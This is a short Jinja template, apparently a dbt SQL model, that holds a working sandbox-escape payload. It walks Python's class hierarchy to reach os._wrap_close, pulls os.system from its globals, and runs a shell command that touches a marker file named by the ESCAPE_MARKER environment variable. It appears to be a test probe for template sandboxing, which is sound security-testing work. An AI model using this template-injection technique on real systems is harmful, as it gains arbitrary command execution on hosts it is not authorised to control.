{# every class of the interpreter, then os._wrap_close's globals #}
{% for c in ''.__class__.__mro__[1].__subclasses__() if c.__name__ == '_wrap_close' %}
{% do c.__init__.__globals__['system']('touch ' ~ env_var('ESCAPE_MARKER')) %}
{% endfor %}
select 1 as id
